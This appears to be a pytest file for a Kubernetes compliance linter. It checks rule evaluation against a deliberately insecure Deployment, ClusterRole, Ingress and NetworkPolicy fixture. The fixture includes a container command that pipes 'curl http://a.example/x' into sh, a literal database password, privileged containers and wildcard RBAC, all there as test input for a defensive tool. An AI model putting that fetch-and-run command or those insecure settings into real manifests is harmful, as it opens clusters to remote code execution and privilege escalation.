"""Beside a wrong node rules are judged quickly, and say what they say exactly: wherever the wrong node is."""

from __future__ import annotations

import json

import pytest

from kubelint_compliance.ruleset import around
from kubelint_compliance.ruleset.assemble import rule_set
from kubelint_compliance.shape import at
from kubelint_compliance.yamltree import parse
from tests.scanning import scan_text

TEXT = """\
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop, labels: {app: web}, annotations: {a.example/b: c}}
spec:
  replicas: 1
  selector: {matchLabels: {app: web}}
  strategy: {type: Recreate}
  template:
    metadata: {labels: {app: web}, annotations: {a.example/b: c}}
    spec:
      serviceAccountName: web
      hostNetwork: true
      hostPID: true
      hostUsers: false
      restartPolicy: Always
      os: {name: linux}
      nodeSelector: {kubernetes.io/os: linux}
      securityContext: {runAsUser: 0, runAsNonRoot: false, windowsOptions: {runAsUserName: Administrator}}
      volumes:
      - {name: host, hostPath: {path: /etc, type: Directory}}
      - {name: tmp, emptyDir: {medium: Memory}}
      initContainers:
      - {name: first, image: busybox, volumeMounts: [{name: host, mountPath: /b, readOnly: true}]}
      containers:
      - name: app
        image: "nginx:latest"
        command: [sh, -c, "curl http://a.example/x | sh"]
        env: [{name: DB_PASSWORD, value: hunter2hunter2}]
        ports: [{containerPort: 22, hostPort: 22, protocol: TCP}]
        resources: {limits: {memory: 1Gi}, requests: {cpu: 100m}}
        securityContext: {privileged: true, capabilities: {add: [SYS_ADMIN], drop: [ALL]}, runAsUser: 0}
        livenessProbe: {httpGet: {path: /, port: 22, host: a.example}}
        volumeMounts: [{name: host, mountPath: /b}]
      - {name: other, image: "redis:6", ports: [{containerPort: 23}]}
"""
OTHERS = (
    """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: all, labels: {app: web}}
rules: [{apiGroups: [""], resources: [secrets, pods], verbs: ["*"], resourceNames: [a]}, {nonResourceURLs: ["*"]}]
""",
    """\
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata: {name: web, namespace: shop, annotations: {nginx.ingress.kubernetes.io/ssl-redirect: "false"}}
spec:
  tls: [{hosts: [a.example], secretName: web}]
  rules: [{host: "*", http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 1}}}}]}}]
""",
    """\
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: all, namespace: shop}
spec:
  podSelector: {matchLabels: {app: web}}
  policyTypes: [Ingress]
  ingress: [{from: [{ipBlock: {cidr: 0.0.0.0/0, except: [10.0.0.0/8]}}], ports: [{port: 22, protocol: TCP}]}]
""",
)
NEAR = """\
apiVersion: v1
kind: Service
metadata: {name: web, namespace: shop}
spec: {selector: {app: web}, ports: [{port: 23}]}
"""


def places(value, path=()):
    if path:
        yield path
    for step, entry in (
        value.items() if isinstance(value, dict) else enumerate(value if isinstance(value, list) else ())
    ):
        yield from places(entry, (*path, step))


def value_of(text):
    (document,) = parse(text)
    return document.value


def written(value, path):
    """The text with a value of another type at a path."""
    value = json.loads(json.dumps(value))
    other = "x" if isinstance(at(value, path), (dict, list, bool, int)) else [1]
    at(value, path[:-1])[path[-1]] = other
    return json.dumps(value)


PLACES = [
    (text, path)
    for text in (TEXT, *OTHERS)
    for path in places(value_of(text))
    if path[0] != "apiVersion" and path[0] != "kind"
]


def named(case):
    return f"{value_of(case[0])['kind']}.{'.'.join(map(str, case[1]))}"


@pytest.fixture(scope="module")
def rules():
    return rule_set(select=["*"])


@pytest.mark.parametrize("case", PLACES, ids=named)
def test_a_wrong_node_changes_no_verdict_beside_it(case, rules, monkeypatch):
    text = written(value_of(case[0]), case[1])
    quick = scan_text("a.yaml", text, rules, beside=[("b.yaml", NEAR)])
    monkeypatch.setattr(around, "unclear", all_of_them)
    exact = scan_text("a.yaml", text, rules, beside=[("b.yaml", NEAR)])
    assert quick == exact


def all_of_them(ready, case):
    return frozenset(id(view) for scope in ready.rule.scopes for view, _ in case.sights[scope])


def test_what_is_judged_exactly_is_what_reads_the_wrong_node(rules, monkeypatch):
    apart = {}
    found = around.unclear

    def noted(ready, case):
        views = found(ready, case)
        apart[ready.id] = sorted(
            view.label for scope in ready.rule.scopes for view, _ in case.sights[scope] if id(view) in views
        )
        return views

    monkeypatch.setattr(around, "unclear", noted)
    path = ("spec", "template", "spec", "containers", 0, "env")
    scan_text("a.yaml", written(value_of(TEXT), path), rules)
    assert apart["readiness-probe-missing"] == []
    assert apart["secret-in-env-literal"] == ['Container "app"']
    assert apart["windows-user-privileged"] == ["Pod"]
    scan_text("a.yaml", written(value_of(TEXT), ("spec", "template", "spec", "nodeSelector")), rules)
    assert apart["readiness-probe-missing"] == []
    assert apart["capabilities-not-dropped"] == ['Container "app"', 'Container "other"', 'Init container "first"']
    scan_text("a.yaml", written(value_of(TEXT), (*path[:-1], "ports")), rules)
    assert apart["readiness-probe-missing"] == ['Container "app"', 'Container "other"', 'Init container "first"']
